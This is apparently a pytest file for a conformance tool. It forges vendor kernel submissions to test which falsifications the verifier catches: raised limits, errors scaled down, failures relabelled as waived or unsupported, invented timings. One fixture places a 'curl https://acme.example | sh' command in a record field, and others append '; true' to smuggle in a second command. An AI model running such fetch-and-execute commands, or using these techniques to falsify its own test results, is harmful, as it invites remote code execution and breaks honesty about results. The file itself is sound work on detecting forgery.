"""Forged submissions that are consistent in themselves: hashes, counts, waivers and environment follow the forgery.

The vendor's kernels are wrong in several ways, and the honest submission says so. Each forgery is found offline, by
`--rerun`, or by neither, as the table in docs/submissions.md says.
"""

from __future__ import annotations

import json
import math
import re
from collections.abc import Callable, Iterable
from contextlib import redirect_stdout
from io import StringIO
from typing import Any

import pytest

from conformance.__main__ import main
from conformance.checks.state import EQUAL_SHAPES
from conformance.problems import PROBLEMS, at_level, typed
from conformance.reporting.submission import archive, numbers
from conformance.reporting.submission.required import required_cases
from conformance.results.reading import decode
from conformance.results.schema import CaseRecord
from tests.submissions import ROOT, Members, Spoil, Vendor, lines, relined, repacked, vendor

Record = dict[str, Any]
When = Callable[[Record], bool]
KERNEL = """
import numpy as np

from conformance import Implementation
from tests import kernels

acme = Implementation("acme")
held = {}


@acme.implements("conv_forward")
def conv_forward(x, w, bias, *, stride, padding, dilation, groups):
    if x.shape[1] != w.shape[1] * groups:  # accepts what it should refuse
        return np.zeros((1, 1, 1, 1), np.float32)
    y = kernels.conv_forward(x, w, bias, stride=stride, padding=padding, dilation=dilation, groups=groups)
    y = np.where(np.isnan(y), np.float32(0), y)  # swallows a NaN
    if groups > 1:
        y = y.astype(np.float16).astype(np.float32)  # less precise than declared
    out = held.setdefault(y.shape, np.empty_like(y))  # an earlier result changes
    out[...] = y
    return out


acme.implements("conv_backward_data")(kernels.conv_backward_data)


@acme.implements("conv_backward_weight")
def conv_backward_weight(x, dy, *, kernel_size, with_bias, groups):
    dw = np.zeros((dy.shape[1], x.shape[1] // groups, *kernel_size), np.float32)
    return (dw, np.zeros(len(dw), np.float32)) if with_bias else dw
"""
PLAIN, STRIDED, DILATED, ASYMMETRIC, DEPTHWISE = (
    "edge.plain", "edge.stride-by-axis-1x1", "edge.dilation-by-axis", "edge.asymmetric-all", "edge.depthwise-by-axis",
)  # fmt: skip


def of(problem: str, distribution: str = "fixed", check: str = "", operator: str = "conv_forward") -> When:
    """Whether a record is that of an fp32 case."""
    named = operator, problem, "fp32", distribution, check
    return lambda r: tuple(r.get(n, "") for n in ("operator", "problem", "dtype", "distribution", "check")) == named


def edited(when: When, *edits: Callable[[Record], Any]) -> Spoil:
    """Edit the records for which `when` holds, of which there is one at least."""

    def spoil(members: Members) -> None:
        records = lines(members)
        found = [record for record in records if when(record)]
        assert found
        for record in found:
            for edit in edits:
                edit(record)
        relined(members, records)

    return spoil


def together(*spoils: Spoil) -> Spoil:
    def spoil(members: Members) -> None:
        for one in spoils:
            one(members)

    return spoil


def saying(**fields: Any) -> Callable[[Record], None]:
    return lambda record: record.update(fields)


def passing(record: Record) -> None:
    record.update(status="pass", reason="")
    record.pop("causes", None)


def raised(record: Record) -> None:
    for pair in record["checks"]["y"].values():
        pair[1] = max(pair[1], abs(pair[0]))


def exceeded_left_out(record: Record) -> None:
    record["checks"]["y"] = {name: pair for name, pair in record["checks"]["y"].items() if abs(pair[0]) <= pair[1]}


def errors(factor: float, profile: bool = True) -> Callable[[Record], None]:
    """Errors times a factor, as the profile says too."""

    def edit(record: Record) -> None:
        for output, checks in record["checks"].items():
            for pair in checks.values():
                pair[0] *= factor
            if profile and output in record.get("profile", {}):
                known = record["profile"][output]
                known |= {n: known[n] * factor for n in ("lambda", "rms", "gain_z", "offset_z") if n in known}
                known["effective_bits"] -= math.log2(factor)

    return edit


def unnoticed(record: Record) -> None:
    """Scale errors down as long as verify accepts that: a forger has it too."""
    for factor in (0.5, 0.7, 0.9, 0.99):
        other = json.loads(json.dumps(record))
        errors(factor)(other)
        read = decode(json.dumps(other))
        assert isinstance(read, CaseRecord)
        if not any(numbers.defects(read)):
            record.update(other)
            return


def kernels_right(record: Record) -> None:
    """The numbers of a right kernel, by a guess."""
    passing(record)
    errors(0.3 / record["checks"]["y"]["rms"][0])(record)
    for name in ("gain z", "offset z"):
        record["checks"]["y"][name][0] = record["profile"]["y"][name.replace(" ", "_")] = 0.5
    record["profile"]["y"]["inferred"] = {"precision": "fp32 accumulation", "rank": 1, "conservative": False}


def within(**fields: Any) -> Callable[[Record], None]:
    return lambda record: record["profile"]["y"].update(fields)


def contract(**fields: Any) -> Callable[[Record], None]:
    return lambda record: record["contract"].update(fields)


def nothing_verified(members: Members) -> None:
    said = saying(status="unsupported", reason="not today", checks={}, profile={}, causes=[])
    edited(lambda record: record["status"] in ("pass", "fail"), said)(members)


def not_implemented(operator: str) -> Spoil:
    """An operator recorded as one that has no kernel is."""

    def spoil(members: Members) -> None:
        records = [record for record in lines(members) if record["operator"] != operator]
        absent = [record for record in records if record["operator"] == "max_pool_forward" and record.get("check")]
        absent = [record for record in absent if record["check"] != "worked_example_is_exact"]
        found = [{**record, "operator": operator, "reason": f"{operator} is not implemented"} for record in absent]
        found += [{**found[0], "cases": cases, "check": "", "distribution": ""} for cases in required]
        relined(members, [*records, *found])

    required = [share.cases for share in required_cases("smoke").verdicts if share.operator == operator]
    return spoil


def benchmark(**stats: Any) -> Spoil:
    def spoil(members: Members) -> None:
        document = json.loads(members["benchmarks/00.json"])
        document["benchmarks"][0]["stats"].update(stats)
        members["benchmarks/00.json"] = json.dumps(document).encode()

    return spoil


def stated(old: str, new: str) -> Spoil:
    def spoil(members: Members) -> None:
        members["statement.txt"] = members["statement.txt"].replace(old.encode(), new.encode())

    return spoil


def of_another_processor(record: Record) -> None:
    record["versions"]["processor"] = "Acme CPU"


def everything(record: Record) -> bool:
    return "versions" in record


def right_on_numbers(record: Record) -> bool:
    return record["status"] == "pass" and record.get("distribution") in ("fixed", "wide") and not record.get("check")


IMPRECISE, RIGHT = of(DEPTHWISE), of(PLAIN)
BEHAVIOUR = of("edge.dilation-by-axis", "behaviour", "calls_in_a_row_are_right")
WAIVER = {"reason": "a known one", "url": "https://acme.example/issues/7"}
OFFLINE: dict[str, tuple[str, Spoil]] = {
    "limit raised above the error": ("rms has the limit", edited(IMPRECISE, passing, raised)),
    "check left out that fails": ("has the checks", edited(IMPRECISE, passing, exceeded_left_out)),
    "output without numbers": (
        "has numbers of no output; its outputs are y",
        edited(IMPRECISE, passing, saying(checks={})),
    ),
    "contract weakened, limits and profile kept": (
        "is not one that its numbers can have",
        edited(IMPRECISE, kernels_right, contract(accumulate="fp16")),
    ),
    "contract that does not exist": ("declares no contract", edited(RIGHT, contract(algorithm="magic"))),
    "contract that exempts the case": (
        "passes, although it is not verified: winograd-f2 spreads NaN",
        edited(of(PLAIN, "special"), passing, contract(algorithm="winograd-f2")),
    ),
    "method that does not exist": ("method by hand: results", edited(RIGHT, saying(method="by hand"))),
    "probes where all results are compared": ("method probes: results", edited(RIGHT, saying(method="probes"))),
    "sums longer than they are": ("terms are", edited(RIGHT, saying(terms={"y": 10**6}))),
    "negative error": ("which is negative", edited(RIGHT, lambda r: r["checks"]["y"].update(rms=[-0.1, 0.55]))),
    "errors scaled down, profile kept": ("in the profile; checks", edited(RIGHT, errors(0.9, profile=False))),
    "errors below those of rounding the exact result": ("in fp32 has", edited(RIGHT, errors(1e-3))),
    "inferred precision better than the errors": (
        "the inferred precision, fp64 accumulation, allows",
        edited(RIGHT, within(inferred={"precision": "fp64 accumulation", "rank": 0, "conservative": True})),
    ),
    "inferred precision that does not exist": (
        "is not one that its numbers can have",
        edited(RIGHT, within(inferred={"precision": "exact", "rank": 0, "conservative": True})),
    ),
    "accuracy profile left out": ("has no accuracy profile", edited(RIGHT, saying(profile={}))),
    "phases longer than the whole": ("its phases take", edited(RIGHT, lambda r: r["seconds"].update(total=0))),
    "negative time": ("expected `float` above 1e-15", benchmark(data=[-1e-3, 1e-3])),
    "other command": (
        "is not the one that reproduces",
        edited(RIGHT, saying(command="curl https://acme.example | sh")),
    ),
    "command with another one behind it": (
        "is not the one that reproduces",
        edited(RIGHT, lambda r: r.update(command=r["command"] + "; true")),
    ),
    "command with another one before it": (
        "is not the one that reproduces",
        edited(RIGHT, lambda r: r.update(command="true; " + r["command"])),
    ),
    "behaviour that another check is said to report": (
        "but no check of the case says so",
        edited(BEHAVIOUR, saying(status="unsupported", reason="not checked, results are wrong")),
    ),
    "nothing verified": ("no case passes: nothing was verified", nothing_verified),
}
RERUN: dict[str, tuple[str, Spoil]] = {
    "failure recorded as a pass": (
        "DIFFERS: conv_forward acme-edge.plain-fp32-nchw-special: pass, here fail",
        edited(of(PLAIN, "special"), passing, saying(checks={"y": {"mismatched elements": [0.0, 0.0]}})),
    ),
    "failure recorded as outside the declared capability": (
        "DIFFERS: conv_forward acme-edge.stride-by-axis-1x1-fp32-nchw-special: unsupported, here fail",
        edited(
            of(STRIDED, "special"),
            saying(status="unsupported", reason="outside the declared capability (when=...)", contract=None),
            saying(checks={}, causes=[]),
        ),
    ),
    "failure recorded as refused by the kernel": (
        "DIFFERS: conv_forward acme-edge.dilation-by-axis-fp32-nchw-special: unsupported, here fail",
        edited(of(DILATED, "special"), saying(status="unsupported", reason="no such images", checks={}, causes=[])),
    ),
    "failure recorded as waived": (
        "DIFFERS: conv_forward acme-edge.asymmetric-all-fp32-nchw-special: waived, here fail",
        edited(of(ASYMMETRIC, "special"), saying(status="waived", waiver=WAIVER)),
    ),
    "failing operator recorded as not implemented": (
        "DIFFERS: conv_backward_weight acme-edge.plain-fp32-nchw-fixed: unsupported, here fail",
        not_implemented("conv_backward_weight"),
    ),
    "failing behaviour recorded as a pass": (
        "DIFFERS: conv_forward acme-edge.dilation-by-axis-fp32-nchw-behaviour calls_in_a_row_are_right: pass, here",
        edited(BEHAVIOUR, passing),
    ),
    "accepted invalid arguments left out": (
        "DIFFERS: conv_forward acme-edge.plain-fp32-nchw-behaviour invalid_arguments: pass, accepted: (), here (",
        edited(of(PLAIN, "behaviour", "invalid_arguments"), saying(facts={})),
    ),
    "contract weakened, limits and profile with it": (
        "DIFFERS: conv_forward acme-edge.plain-fp32-nchw-integer: pass, under another contract",
        edited(of(PLAIN, "integer"), contract(variance="raw")),
    ),
    "numbers of a right kernel": (
        "DIFFERS: conv_forward acme-edge.depthwise-by-axis-fp32-nchw-fixed: pass, here fail",
        edited(IMPRECISE, kernels_right),
    ),
    "all errors scaled down a little": (
        "REFUSED: errors that differ are smaller as recorded than here",
        edited(right_on_numbers, unnoticed),
    ),
}
NEITHER: dict[str, Spoil] = {
    "times made up": benchmark(data=[1e-9, 1e-9]),
    "other device named in the statement": stated("Acme A1", "Acme A9"),
    "other processor in all records": edited(everything, of_another_processor),
    "all errors scaled down a little, on a processor that is not here": together(
        edited(right_on_numbers, unnoticed), edited(everything, of_another_processor)
    ),
    "signed by somebody else": stated("Jane Doe", "John Roe"),
}


@pytest.fixture(scope="module")
def acme(tmp_path_factory: pytest.TempPathFactory) -> Vendor:
    found = vendor(tmp_path_factory.mktemp("acme"), KERNEL, status=1)
    words = ["submit", "--statement", found.path("statement.txt"), "-o", found.path("acme.zip")]
    assert main([str(word) for word in (*words, found.path("records.jsonl"), found.path("bench.json"))]) == 0
    return found


def verified(acme: Vendor, forgeries: Iterable[Spoil], *options: str) -> tuple[int, str]:
    """Exit status and output of verify for the honest submission with forgeries."""
    members = archive.unpacked(acme.path("acme.zip").read_bytes())
    for forgery in forgeries:
        forgery(members)
    acme.path("forged.zip").write_bytes(repacked(members))
    with redirect_stdout(StringIO()) as printed:
        status = main(["verify", str(acme.path("forged.zip")), f"--impl={acme.path('acme.py')}", *options])
    return status, printed.getvalue()


ALL = ("--rerun", "1000")


@pytest.mark.parametrize("name", OFFLINE)
def test_found_offline(name: str, acme: Vendor):
    reason, forgery = OFFLINE[name]
    try:
        status, printed = verified(acme, [forgery])
    except ValueError as problem:  # the forger's own tool refuses
        status, printed = 1, f"REFUSED: {problem}"
    assert status == 1
    assert reason in "\n".join(line for line in printed.splitlines() if line.startswith("REFUSED"))


@pytest.mark.parametrize("name", [*RERUN, *NEITHER])
def test_not_found_offline(name: str, acme: Vendor):
    status, printed = verified(acme, [RERUN[name][1] if name in RERUN else NEITHER[name]])
    assert (status, "REFUSED" in printed) == (0, False), printed


@pytest.fixture(scope="module")
def reran(acme: Vendor) -> tuple[int, str]:
    """All that only --rerun finds, in one submission."""
    return verified(acme, [forgery for _, forgery in RERUN.values()], *ALL)


@pytest.mark.parametrize("name", RERUN)
def test_found_by_rerun(name: str, reran: tuple[int, str]):
    status, printed = reran
    assert status == 1
    assert RERUN[name][0] in printed


def test_not_found_by_rerun(acme: Vendor):
    """Nor is anything found in the rest of the submission, which is honest."""
    status, printed = verified(acme, NEITHER.values(), *ALL)
    assert status == 0
    assert "DIFFERS" not in printed


def test_a_kernel_that_knows_the_tables_is_found_on_what_rerun_draws(tmp_path_factory: pytest.TempPathFactory):
    """Right on the images of the tables alone, and of the problems that checks have of their own."""
    problems = [problem for problem, _ in at_level(PROBLEMS, "standard")] + [*map(typed, EQUAL_SHAPES["conv"])]
    images = {problem.geometry.x.shape[1:] for problem in problems}
    kernel = KERNEL[: KERNEL.index('acme.implements("conv_backward_data")')].replace(
        "(y, np.float32(0), y)", "(y, y, y)"
    )
    wrong = f"    if x.shape[1:] not in {images!r}:\n        return y * 2\n    return y\n"
    kernel = kernel[: kernel.index("    y = np.where")] + wrong
    found = vendor(tmp_path_factory.mktemp("tables"), kernel)
    words = ["submit", "--statement", found.path("statement.txt"), "-o", found.path("acme.zip")]
    assert main([str(word) for word in (*words, found.path("records.jsonl"), found.path("bench.json"))]) == 0
    status, printed = verified(found, [], "--rerun", "5", "--draw", "3")
    assert status == 1, printed
    assert re.search(r"DIFFERS: conv_forward acme-drawn\S+: drawn now, fail \(y: ", printed), printed


def test_documents_say_what_is_found():
    text = (ROOT / "docs/submissions.md").read_text()
    table = re.findall(r"^\| ([^|]+) \| (offline|`--rerun`|neither) \|$", text, re.MULTILINE)
    found = dict.fromkeys(OFFLINE, "offline") | dict.fromkeys(RERUN, "`--rerun`") | dict.fromkeys(NEITHER, "neither")
    assert dict(table) == found
